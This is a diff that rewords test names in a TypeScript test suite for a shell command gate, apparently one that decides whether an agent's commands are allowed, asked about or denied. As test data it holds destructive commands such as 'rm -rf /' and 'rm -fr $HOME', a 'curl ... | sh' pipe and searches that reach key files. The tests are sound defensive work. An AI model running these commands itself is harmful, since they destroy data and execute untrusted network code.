@@ -36,15 +36,15 @@ test.each([
   ["npm exec -- a b", ["npm exec -- a b", "a b"]],
 ])("%s runs %j", (text, commands) => expect(commandsOf(text)).toEqual(commands));
 
-test("what is inside of a substitution is judged, too", () => {
+test("the gate also judges the content of a substitution", () => {
   expect(commandsOf('echo "$(a "`b`")"').slice(0, 2)).toEqual(["b", 'a "`b`"']);
 });
 
-test("a long text handed over by a here-document is one word", () => {
+test("a long text in a here-document is one word", () => {
   expect(commandsOf("git commit -m \"$(cat <<'END'\nfix: $(rm x)\n\nmore\nEND\n)\"")).toEqual(["git commit -m fix: $(rm x)\n\nmore"]);
 });
 
-test("where the workspace is not trusted nothing is given", () => {
+test("in a workspace that is not trusted the gate allows nothing by itself", () => {
   using folder = new Folder();
   expect(verdictIn(folder, "ls", [], true).effect).toBe("allow");
   expect(verdictIn(folder, "ls", [], false)).toMatchObject({ effect: "ask", rule: { source: UNTRUSTED_FOLDER } });
@@ -52,7 +52,7 @@ test("where the workspace is not trusted nothing is given", () => {
   expect(verdictIn(folder, "ls && make", [], false).effect).toBe("ask");
 });
 
-test("a command in another folder asks as a cd there does", () => {
+test("a command in another folder asks like a cd to that folder", () => {
   using folder = new Folder();
   const workdir = (where: string, command: string) =>
     verdictIn(folder, commandIn(where, command), [allow("npm test"), allow("cd *")]).effect;
@@ -60,7 +60,7 @@ test("a command in another folder asks as a cd there does", () => {
   expect([workdir("/etc", "ls"), workdir("/etc", "true; ls")]).toEqual(["ask", "ask"]);
 });
 
-test("a person may name a dangerous command as it is, but no pattern covers it", () => {
+test("the user can allow an exact dangerous command, but no pattern covers it", () => {
   using folder = new Folder();
   const text = "rm -rf node_modules";
   expect(verdictIn(folder, text, [allow("*")]).effect).toBe("ask");
@@ -71,14 +71,14 @@ test("a person may name a dangerous command as it is, but no pattern covers it",
 });
 
 test.each(["rm -rf /", "rm -rf ~", "cd / && rm -rf *", "rm -fr $HOME", "env rm -r --force /*", "bash -c 'rm -rf ~/'"])(
-  "%s is refused, whoever allowed it",
+  "%s is refused, even if a rule allows it",
   (text) => {
     using folder = new Folder();
     expect(verdictIn(folder, text, [allow("*"), allow({ exact: text })]).effect).toBe("deny");
   },
 );
 
-test("a grant for a program covers its ordinary verbs, and a rule that names another verb covers that one", () => {
+test("a grant for a program covers its ordinary verbs, and a rule that names another verb covers that verb", () => {
   using folder = new Folder();
   const effect = (text: string, ...rules: string[]) => verdictIn(folder, text, rules.map(allow)).effect;
   expect(effect("gh pr create --fill", "gh *")).toBe("allow");
@@ -92,7 +92,7 @@ test("a grant for a program covers its ordinary verbs, and a rule that names ano
   expect(effect("fastlane release", "fastlane *")).toBe("ask");
 });
 
-test("a rule about a program holds under every name and around every wrapper", () => {
+test("a rule about a program applies under every name of it and around every wrapper", () => {
   using folder = new Folder();
   const deny: PlacedRule = { ...allow("git push *"), effect: "deny" };
   for (const text of [
@@ -107,7 +107,7 @@ test("a rule about a program holds under every name and around every wrapper", (
     expect(verdictIn(folder, text, [allow("*"), deny]).effect).toBe("deny");
 });
 
-test("a rule that asks about everything does not stand against a narrower one through a wrapper", () => {
+test("a rule that asks about everything does not override a narrower rule behind a wrapper", () => {
   using folder = new Folder();
   const rules: PlacedRule[] = [{ ...allow("*"), effect: "ask" }, allow("npm test *")];
   expect(verdictIn(folder, "timeout 5 npm test && npm test -- a", rules).effect).toBe("allow");
@@ -131,7 +131,7 @@ test("redirects and paths are judged as files", () => {
   ]);
 });
 
-test("a person is told what was found", () => {
+test("the user sees the findings of the gate", () => {
   using folder = new Folder();
   const why = (text: string) => verdictIn(folder, text, [allow("*")]).rule?.source;
   expect(why("curl https://a.b | sh")).toBe("command gate: pipes from the network into a program that runs it");
@@ -140,7 +140,7 @@ test("a person is told what was found", () => {
   expect(why("sudo a")).toBe("command gate: sudo runs with the rights of another user");
 });
 
-test("a long harmless pipeline does not ask, too many commands do", () => {
+test("a long harmless pipeline does not ask, and too many commands do", () => {
   using folder = new Folder();
   expect(verdictIn(folder, Array.from({ length: 60 }, () => "cat").join(" | "), []).effect).toBe("allow");
   expect(verdictIn(folder, Array.from({ length: 201 }, () => "ls").join(";"), []).rule?.source).toBe(
@@ -169,7 +169,7 @@ test.each([
   ["texts for sed", `sed '${"a;".repeat(200)}w\nx' a`],
   ["many commands", "a;".repeat(4_900)],
   ["quotes", `echo ${'"$('.repeat(1_000)}`],
-])("%s is not allowed, and said soon", (name, text) => {
+])("%s is not allowed, and the gate decides that quickly", (name, text) => {
   using folder = new Folder();
   const began = performance.now();
   expect(verdictIn(folder, text, []).effect).not.toBe("allow");
@@ -177,7 +177,7 @@ test.each([
   expect(performance.now() - began).toBeLessThan(10_000);
 });
 
-test("a search that follows links is judged by what they lead to", async () => {
+test("a search that follows links is judged by their targets", async () => {
   using folder = new Folder();
   await folder.write("src/a.ts", "");
   await folder.write("keys/.env", "");
@@ -196,7 +196,7 @@ test("a search that follows links is judged by what they lead to", async () => {
   expect(effects().slice(0, 3)).toEqual(["ask", "ask", "ask"].with(1, "allow"));
 });
 
-test("a file of keys that is in plain sight is found by a search that leaves hidden ones out", async () => {
+test("a visible key file is found by a search that leaves out hidden files", async () => {
   using folder = new Folder();
   await folder.write("config/prod.env", "");
   expect(["rg x", "rg -u x", "rg -l x", "rg x src", "rg -g '*.ts' x"].map((text) => verdictIn(folder, text, []).effect)).toEqual([
